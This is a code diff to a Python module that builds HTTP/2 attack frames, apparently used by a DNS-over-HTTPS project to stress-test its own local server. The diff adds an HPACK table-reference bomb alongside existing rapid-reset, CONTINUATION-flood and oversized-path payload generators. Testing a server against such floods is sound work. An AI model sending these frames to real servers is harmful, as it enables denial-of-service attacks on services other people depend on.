@@ -1,65 +1,58 @@
-"""HTTP/2 frames of an attacking client, and a scanner of the frames from the server; without sockets.
+"""HTTP/2 frames of an attacking client; without sockets.
 
-Path: doh_attack.py -> here.
-Source: RFC 9113 sections 3.4, 4.1, 5.1.1 and 6; RFC 7541 sections 5 and 6.2.2 and appendix A.
+Path: doh_attack.py, probes.py -> here -> hsdns/http2.py.
 Rule 1: header fields are literals without indexing, so that a block does not depend on those before it.
 """
 
 from __future__ import annotations
 
 import base64
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from typing import Final, NamedTuple
 
-PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
-END_STREAM, ACK, END_HEADERS = 1, 1, 4
-MAX_FRAME: Final = 16_384
+from hsdns.http2 import (
+    CONTINUATION,
+    DATA,
+    DEFAULT_WINDOW,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW,
+    MAX_FRAME_LEN,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    field,
+    frame,
+)
+
 _LARGEST_WINDOW = (1 << 31) - 1
-_DEFAULT_WINDOW = 65_535
-_INITIAL_WINDOW_SIZE = 4
 _CANCEL = 8
-_AUTHORITY, _GET, _POST, _PATH, _HTTPS = 1, 2, 3, 4, 7  # indexes of the static table
 LONG_PATH: Final = 60_000  # octets
-
-
-class Frame(NamedTuple):
-    """A received frame."""
-
-    kind: int
-    flags: int
-    stream: int
-    payload: bytes
-
-
-def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    """Write a frame."""
-    head = len(payload).to_bytes(3, "big") + bytes((kind, flags))
-    return head + stream.to_bytes(4, "big") + payload
+_ENTRY: Final = 4_000  # octets: nearly all of the table's
+_NEWEST: Final = 0x80 | 62  # index of the table
+_TIMES: Final = 15_000
 
 
 def opening() -> bytes:
     """The first octets of a connection: the client accepts any amount of replies."""
-    window = _INITIAL_WINDOW_SIZE.to_bytes(2, "big") + _LARGEST_WINDOW.to_bytes(4, "big")
-    more = (_LARGEST_WINDOW - _DEFAULT_WINDOW).to_bytes(4, "big")
-    return PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW, 0, 0, more)
+    window = INITIAL_WINDOW.to_bytes(2, "big") + _LARGEST_WINDOW.to_bytes(4, "big")
+    more = (_LARGEST_WINDOW - DEFAULT_WINDOW).to_bytes(4, "big")
+    return PREFACE + frame(SETTINGS, 0, 0, window) + frame(WINDOW_UPDATE, 0, 0, more)
 
 
 def header_block(path: str, *, is_post: bool = False) -> bytes:
     """Write the fields of a request."""
-    method = 0x80 | (_POST if is_post else _GET)
-    return (
-        bytes((method, 0x80 | _HTTPS))
-        + bytes((_AUTHORITY,))
-        + _string(b"127.0.0.1")
-        + bytes((_PATH,))
-        + _string(path.encode())
-    )
+    method = "POST" if is_post else "GET"
+    given = (":method", method), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)
+    return b"".join(field(*each) for each in given)
 
 
 def request(stream: int, block: bytes, *, ends: bool = True) -> bytes:
     """Write a request in as many frames as it needs."""
-    pieces = [block[at : at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]
+    pieces = [block[at : at + MAX_FRAME_LEN] for at in range(0, len(block), MAX_FRAME_LEN)]
     out = []
     for number, piece in enumerate(pieces):
         last = END_HEADERS if number == len(pieces) - 1 else 0
@@ -68,37 +61,6 @@ def request(stream: int, block: bytes, *, ends: bool = True) -> bytes:
         else:
             out.append(frame(CONTINUATION, last, stream, piece))
     return b"".join(out)
-
-
-def _string(text: bytes) -> bytes:
-    if len(text) < 127:
-        return bytes((len(text),)) + text
-    rest, out = len(text) - 127, bytearray((127,))
-    while rest >= 128:
-        out.append(rest & 127 | 128)
-        rest >>= 7
-    out.append(rest)
-    return bytes(out) + text
-
-
-class FrameScanner:
-    """Finds the frames in the octets of a server."""
-
-    def __init__(self) -> None:
-        self._data = bytearray()
-
-    def feed(self, data: bytes) -> Iterator[Frame]:
-        """Yield the complete frames."""
-        self._data += data
-        while len(self._data) >= 9:
-            length = int.from_bytes(self._data[:3], "big")
-            if len(self._data) < 9 + length:
-                return
-            kind, flags = self._data[3], self._data[4]
-            stream = int.from_bytes(self._data[5:9], "big") & 0x7FFF_FFFF
-            payload = bytes(self._data[9 : 9 + length])
-            del self._data[: 9 + length]
-            yield Frame(kind, flags, stream, payload)
 
 
 class Attack(NamedTuple):
@@ -120,7 +82,8 @@ def _streams(first: int, count: int) -> range:
 def _resets(first: int, count: int, path: str) -> bytes:
     block, code = header_block(path), _CANCEL.to_bytes(4, "big")
     return b"".join(
-        request(stream, block) + frame(RESET, 0, stream, code) for stream in _streams(first, count)
+        request(stream, block) + frame(RST_STREAM, 0, stream, code)
+        for stream in _streams(first, count)
     )
 
 
@@ -157,8 +120,15 @@ def _continuations(first: int, count: int, path: str) -> bytes:
 
 
 def _more(count: int) -> bytes:
-    field = b"\0" + _string(b"x") + _string(b"y" * 64)
-    return frame(CONTINUATION, 0, 1, field) * count
+    return frame(CONTINUATION, 0, 1, field("x", "y" * 64)) * count
+
+
+def _bombs(first: int, count: int, path: str) -> bytes:
+    """A field enters the table of the connection with its first block, and stands in each many times."""
+    entry = b"\x40" + field("x", "y" * _ENTRY)[1:]  # which enters the table
+    block = header_block(path) + bytes((_NEWEST,)) * _TIMES
+    opened = request(first, header_block(path) + entry) if first == 1 else b""
+    return opened + b"".join(request(each, block) for each in _streams(first + 2, count))
 
 
 ATTACKS: Final = {
@@ -169,4 +139,5 @@ ATTACKS: Final = {
     "paths": Attack(50, _paths),
     "empty": Attack(10_000, _empty),
     "continuation": Attack(10_000, _continuations),
+    "hpack": Attack(50, _bombs),
 }
